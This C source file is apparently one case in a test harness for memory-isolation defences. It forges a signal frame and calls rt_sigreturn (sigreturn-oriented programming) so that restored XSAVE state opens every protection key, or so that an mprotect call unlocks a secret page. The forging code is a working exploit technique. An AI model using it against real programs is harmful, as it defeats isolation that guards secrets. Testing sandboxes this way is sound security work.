/* A4: rt_sigreturn with a frame that no signal made (SROP). On pku the frame opens
 * every key; on mprotect it loads the registers of an mprotect call.
 *
 * Source: [PKU Pitfalls]; <asm/sigcontext.h> for the frame.
 */
#include <setjmp.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include "attack.h"
#include "signalframe.h"

#define SOFTWARE_BYTES 464 /* offset of the kernel's own words in the image */
#define UC_FP_XSTATE 1
#define USER_CS 0x33ul
#define USER_SS 0x2bul
#define IMAGE_MOST 16384
#define STACK_BYTES 32768

struct software_words { uint32_t magic1, extended_size; uint64_t components; uint32_t size, padding[7]; };

static unsigned char image[IMAGE_MOST] __attribute__((aligned(64)));
static unsigned char stack[STACK_BYTES] __attribute__((aligned(64)));
static ucontext_t frame __attribute__((aligned(64)));
static jmp_buf back;

/* forged_return(frame): rt_sigreturn with rsp there; comes back when it is refused.
 * after_call: a system call by the frame's registers, then a jump through r12. */
long forged_return(void *at);
extern const char after_call[];
__asm__(".pushsection .text\n"
        "forged_return:\n"
        "  mov %rsp, kept_rsp(%rip)\n  mov %rdi, %rsp\n  mov $15, %eax\n  syscall\n"
        "  mov kept_rsp(%rip), %rsp\n  ret\n"
        "after_call:\n"
        "  syscall\n  jmp *%r12\n"
        ".popsection\n"
        ".local kept_rsp\n.comm kept_rsp, 8, 8\n");

static void __attribute__((force_align_arg_pointer)) arrived(void) {
    attack_read();
    longjmp(back, 1);
}

static void xsave_image(void) {
    uint32_t low, high, size, ebx, ecx, edx;
    __asm__ volatile("xgetbv" : "=a"(low), "=d"(high) : "c"(0));
    __cpuid_count(0xd, 0, size, ebx, ecx, edx);
    __asm__ volatile("xsave64 (%0)" : : "r"(image), "a"(low), "d"(high) : "memory");
    struct software_words words = {.magic1 = FP_XSTATE_MAGIC1, .extended_size = ebx + 4,
                                   .components = (uint64_t)high << 32 | low, .size = ebx};
    uint32_t magic2 = FP_XSTATE_MAGIC2;
    memcpy(image + SOFTWARE_BYTES, &words, sizeof words);
    memcpy(image + ebx, &magic2, sizeof magic2);
    signalframe_open(image);
}

static void forge(void) {
    xsave_image();
    greg_t *registers = frame.uc_mcontext.gregs;
    frame.uc_flags = UC_FP_XSTATE;
    frame.uc_mcontext.fpregs = (fpregset_t)(void *)image;
    registers[REG_RSP] = (greg_t)(uintptr_t)(stack + STACK_BYTES - 64);
    registers[REG_CSGSFS] = USER_CS | USER_SS << 48;
    registers[REG_EFL] = 0x202;
    registers[REG_R12] = (greg_t)(uintptr_t)arrived;
    registers[REG_RIP] = (greg_t)(uintptr_t)arrived;
    if (!target.pku) {
        registers[REG_RIP] = (greg_t)(uintptr_t)after_call;
        registers[REG_RAX] = SYS_mprotect;
        registers[REG_RDI] = (greg_t)(uintptr_t)target.secret;
        registers[REG_RSI] = PAGE_BYTES;
        registers[REG_RDX] = PROT_READ | PROT_WRITE;
    }
    if (setjmp(back)) return;
    long result = forged_return(&frame);
    attack_refused("rt_sigreturn", (int)-result);
}

const struct attack attacks[] = {
    {.variant = "forged-frame", .attack = forge},
    {0},
};
